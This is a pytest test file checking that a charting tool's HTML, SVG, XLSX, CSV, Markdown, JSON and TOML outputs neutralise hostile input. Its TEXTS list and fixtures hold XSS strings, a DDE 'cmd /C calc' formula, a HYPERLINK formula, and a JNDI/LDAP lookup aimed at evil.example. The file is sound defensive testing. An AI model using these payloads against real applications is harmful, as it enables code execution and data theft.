"""Text of data, notes, rule sets and limits files stays text in every form that is written."""

from __future__ import annotations

import csv
import json
import os
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

import sqc
from sqc.cli.main import main
from sqc.report.data import _markdown_cell, guard
from sqc.report.files import safe_names

SCRIPT = "<script>alert(1)</script>"
TEXTS = [
    SCRIPT,
    '"><img src=x onerror=alert(2)>',
    "' onfocus='alert(3)' autofocus x='",
    "]]></style></script></title></svg><svg onload=alert(4)>",
    "[click](javascript:alert(5))",
    "<javascript:alert(6)>",
    "![x](http://evil.example/x.png)",
    "`code` **bold** | cell | ~~x~~ &lt;b&gt;",
    '=HYPERLINK("http://evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\uff1d1+1",
    "http://evil.example/x",
    "mailto:a@b.example",
    "{{ 7 * 7 }}",
    "${jndi:ldap://evil.example}",
    "%s %n {0} {value}",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\u202eevil",
    "a\x01\x0b\x0c\ufffe\uffffb",
    "x\n| y |\n\n# z",
    "$x^2$ \\frac{1}{2} _a_",
]
SVG = {"svg", "g", "path", "use", "defs", "clipPath", "rect", "style", "metadata", "title"}
SVG |= {"RDF", "Work", "type", "format", "date", "creator", "Agent"}
MARKDOWN = {"h1", "p", "strong", "img", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"}
WRITTEN = ["html", "svg", "xlsx", "csv", "md", "json", "txt", "png", "pdf"]


@pytest.fixture(scope="module", params=["phase 1", "phase 2"])
def folder(request, tmp_path_factory):
    """Every form of a chart whose file name, heads, cells, notes, rules and limits are hostile."""
    place = tmp_path_factory.mktemp("evil")
    data = place / f"{safe_names(['<b>=1+1 `x` [l](javascript:1)'])[0]}.csv"
    lot, value = f"lot {SCRIPT}", f"=d|[l](javascript:alert(7)) {SCRIPT}"
    with data.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow([lot, value])
        for i, text in enumerate(TEXTS):
            for k in range(3):
                rows.writerow(
                    [f"{text} {i}" if i % 2 else text, 10 + (i * 7 + k) % 5 / 10 + (9 if i < 6 else 0)]
                )
    notes = place / "notes.csv"
    with notes.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["point", "cause", "action", "who"])
        rows.writerows([[str(i + 1), text, TEXTS[-i - 1], text] for i, text in enumerate(TEXTS)])
    rules = place / "rules.toml"
    name = json.dumps(f"=1 {SCRIPT} [l](javascript:1)")
    rules.write_text(
        f"name = {name}\nsource = {name}\nedition = {name}\n"
        '[[rule]]\nid = "a"\nkind = "beyond_limit"\n[[rule]]\nid = "b"\nkind = "run_same_side"\nk = 4\n',
        encoding="utf-8",
    )
    call = ["chart", str(data), "--value", "2", "--subgroup", "1", "--rules", str(rules), "--unit", SCRIPT]
    monkey = pytest.MonkeyPatch()
    monkey.chdir(place)
    try:
        saved = ["--save-limits", "l.toml", "--approved-by", f"=1 {SCRIPT}"]
        assert main([*call, *saved, "--quiet"]) == 0
        more = ["--limits", "l.toml"] if request.param == "phase 2" else ["--notes", str(notes)]
        outputs = [part for ending in WRITTEN for part in ("-o", f"a.{ending}")]
        assert main([*call, *more, *outputs, "--title", f"=t {SCRIPT}", "--quiet"]) == 0
    finally:
        monkey.undo()
    return place


class Tags(HTMLParser):
    """The elements of a page with their attributes."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def test_html(folder):
    page = Tags((folder / "a.html").read_text(encoding="utf-8"))
    tags = [tag for tag, _ in page.found]
    assert tags.count("script") == tags.count("style") == tags.count("title") == 1
    assert not set(tags) & {
        "img",
        "iframe",
        "object",
        "embed",
        "form",
        "base",
        "b onclick",
        "image",
        "foreignobject",
    }
    for tag, attributes in page.found:
        assert not [name for name in attributes if name.startswith("on")]
        for name in ("href", "src", "action", "xlink:href"):
            assert (attributes.get(name) or "#").startswith(("#", "data:,")), (tag, attributes)


def test_svg(folder):
    text = (folder / "a.svg").read_text(encoding="utf-8")
    root = ElementTree.fromstring(text.partition("?>")[2].partition(">")[2])
    for element in root.iter():
        name = element.tag.rpartition("}")[2]
        assert name in SVG
        for key, value in element.attrib.items():
            assert not key.rpartition("}")[2].startswith("on")
            assert not key.endswith("href") or value.startswith("#")
    assert "alert" not in "".join(element.text or "" for element in root.iter())


def test_xlsx(folder):
    """Well-formed XML in every part, no formula, no link, no macro, nothing external."""
    with zipfile.ZipFile(folder / "a.xlsx") as book:
        names = book.namelist()
        for name in names:
            root = ElementTree.fromstring(book.read(name))
            found = {element.tag.rpartition("}")[2] for element in root.iter()}
            assert not found & {"hyperlink", "hyperlinks", "externalReference", "definedName"}
            if name.startswith("xl/worksheets/sheet"):
                assert "f" not in found
            targets = [element.get("Target", "") for element in root.iter()]
            assert not [one for one in targets if ":" in one]
            assert not [one for one in root.iter() if one.get("TargetMode") == "External"]
    assert not [name for name in names if "vba" in name or "external" in name.lower()]


def test_xlsx_opens_and_keeps_the_words(folder):
    from openpyxl import load_workbook

    book = load_workbook(folder / "a.xlsx")
    texts = {cell.value for sheet in book for row in sheet.rows for cell in row if cell.data_type == "s"}
    assert '=HYPERLINK("http://evil.example")' in texts
    assert "@SUM(A1) 11" in texts
    assert not [
        cell
        for sheet in book
        for row in sheet.rows
        for cell in row
        if cell.data_type == "f" or cell.hyperlink
    ]


def test_csv(folder):
    with (folder / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for cell in row:
            number = re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
            assert number or not cell.startswith(tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")), cell


def test_markdown(folder):
    """As a reader renders it: no element but those of the report, no link but its picture."""
    markdown = pytest.importorskip("markdown")
    text = (folder / "a.md").read_text(encoding="utf-8")
    page = Tags(markdown.markdown(text, extensions=["tables"]))
    assert {tag for tag, _ in page.found} <= MARKDOWN
    assert [attributes["src"] for tag, attributes in page.found if tag == "img"] == ["a.png"]
    assert sum(tag == "h1" for tag, _ in page.found) == 1
    for line in text.splitlines():
        if line.startswith("|"):
            assert len(re.findall(r"(?<!\\)\|", line)) in (5, 6, 7, 8)


def test_json(folder):
    found = json.loads((folder / "a.json").read_text(encoding="utf-8"))
    assert TEXTS[0] in found["labels"]


def test_limits_files_are_toml_whatever_stands_in_them(folder):
    import tomllib

    held = tomllib.loads((folder / "l.toml").read_text(encoding="utf-8"))
    assert held["approval"]["approved_by"] == f"=1 {SCRIPT}"


@given(st.text())
def test_any_cell_of_csv(text):
    """What a spreadsheet reads of a cell begins no formula, or is a plain number."""
    guarded = guard(text)
    assert guarded in (text, "'" + text)
    begins = guarded.startswith(tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"))
    assert not begins or re.fullmatch(r"[+-][0-9]+(\.[0-9]*)?([eE][+-]?[0-9]+)?", guarded)


@pytest.mark.parametrize("number", ["-5", "+5", "-0.25", "-1e-5", "+3.E+2"])
def test_text_that_is_a_number_is_left_alone(number):
    assert guard(number) == number


@pytest.mark.parametrize("formula", ["-5+1", "-A1", "+-5", "-5e", "--5", "-", "=5", "-5\n", "-٥", "@5"])
def test_what_is_no_number_is_guarded(formula):
    assert guard(formula) == "'" + formula


@given(st.text(st.sampled_from("ab \\`*_[]<>|!()&~#:/\n\r\x1b"), max_size=30))
def test_any_cell_of_markdown(text):
    markdown = pytest.importorskip("markdown")
    said = _markdown_cell(text)
    assert "\n" not in said
    page = Tags(markdown.markdown(f"| a |\n| :-- |\n| x{said}x |", extensions=["tables"]))
    assert {tag for tag, _ in page.found} <= {"table", "thead", "tbody", "tr", "th", "td"}
    assert sum(tag == "td" for tag, _ in page.found) == 1


@given(st.lists(st.text(), min_size=1, max_size=3))
def test_any_label_in_html(labels):
    frame = {"lot": [label or "x" for label in labels for _ in range(2)] + ["end", "end"]}
    frame["d"] = [float(i % 3) for i in range(len(frame["lot"]))]
    page = Tags(sqc.look(frame).to_html("en"))
    tags = [tag for tag, _ in page.found]
    assert tags.count("script") == tags.count("title") == 1
    assert not [name for _, attributes in page.found for name in attributes if name.startswith("on")]


def test_a_file_named_like_markup(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    name = "<img src=x onerror=alert(1)>&[l](javascript:1).csv"
    try:
        Path(name).write_text("d\n" + "\n".join(f"{i % 5}.5" for i in range(30)) + "\n", encoding="utf-8")
    except OSError:
        pytest.skip("this system takes no such name")
    assert main(["chart", name, "-o", "a.html", "-o", "a.md", "-o", "a.svg", "--quiet"]) == 0
    page = Tags(Path("a.html").read_text(encoding="utf-8"))
    assert "img" not in [tag for tag, _ in page.found]
    assert "](javascript" not in Path("a.md").read_text(encoding="utf-8")


@pytest.mark.skipif(os.name == "nt", reason="names are bytes on POSIX alone")
def test_a_file_name_that_is_no_text(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    name = os.fsdecode(b"\xff\x9b31m.csv")
    try:
        Path(name).write_text("d\n" + "\n".join(f"{i % 5}.5" for i in range(30)) + "\n", encoding="utf-8")
    except OSError:
        pytest.skip("this system takes no such name")
    outputs = [part for ending in WRITTEN for part in ("-o", f"a.{ending}")]
    assert main(["chart", name, *outputs, "--save-limits", "l.toml"]) == 0
    out, err = capsys.readouterr()
    assert "\\udcff" in out and err == ""
    for ending in ("html", "csv", "md", "json", "txt"):
        Path(f"a.{ending}").read_bytes().decode("utf-8")
    assert main(["chart", name, "--limits", "l.toml", "--quiet"]) == 0
